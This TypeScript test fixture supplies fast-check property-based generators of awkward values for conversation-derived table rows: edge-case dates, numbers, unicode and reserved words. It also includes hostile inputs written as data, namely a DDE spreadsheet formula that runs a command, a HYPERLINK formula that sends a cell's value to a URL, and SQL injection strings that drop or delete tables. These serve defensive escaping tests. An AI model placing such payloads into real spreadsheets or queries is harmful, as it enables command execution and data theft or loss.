/** What stands in rows that people draw from real conversations, and what somebody with bad intent would write there. */
import fc from "fast-check";

const FORMULAS = [
  "=1+1",
  '=HYPERLINK("https://example.com/?x="&A1,"click")',
  "+12025550101",
  "-1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "'=1+1",
  "=cmd|' /C calc'!A0",
];
const STATEMENTS = [
  `'); DROP TABLE "calls"; --`,
  "' OR '1'='1",
  `\\'; DELETE FROM Contact WHERE Name != '`,
  "$1 %s ? :name",
  "{FIND} ? & | ! { } [ ] ( ) ^ ~ * : \\ \" ' + -",
];
const LINES = [
  'a "quoted" text',
  "two\nlines",
  "two\r\nlines",
  "a;b,c\td",
  " spaces around ",
  '"',
  "\ufeffmark",
];
const DATES = [
  "0001-01-01T00:00:00Z",
  "1582-10-15",
  "1969-12-31T23:59:59.999Z",
  "2024-02-29T23:59:60Z",
  "2026-11-02T10:00:00.123456789+14:00",
  "9999-12-31T23:59:59Z",
  "+010000-01-01T00:00:00Z",
  "2026-13-45",
];
const NUMBERS = [
  0,
  -1,
  0.1,
  1e21,
  5e-324,
  Number.MAX_VALUE,
  Number.MAX_SAFE_INTEGER,
  2 ** 53 + 2,
  -(2 ** 63),
];
const DIGITS = ["9007199254740993", "00441234", "1e5", "0x10", "Infinity", "NaN", "1,5"];
const LETTERS = [
  "",
  "\0",
  "a\0b",
  "\u0001\u001f\u007f",
  "\ud800",
  "Ünï ﷽ 召回 👩‍👩‍👧 \u{10ffff}",
  "\u202eabc",
  "e\u0301",
];
const WORDS = ["null", "undefined", "TRUE", "#N/A", "#REF!", "__proto__"];

export type Value = string | number | boolean | null;

export const oddValues: Value[] = [
  ...[FORMULAS, STATEMENTS, LINES, DATES, NUMBERS, DIGITS, LETTERS, WORDS].flat(),
  true,
  false,
  null,
];

/** Anything that may stand in a row, the odd ones above all. */
export const anyValue: fc.Arbitrary<Value> = fc.oneof(
  fc.constantFrom(...oddValues),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** A text of 1 MB. */
export const oneMegabyte = "Good morning. 召回 ".repeat(50_000);
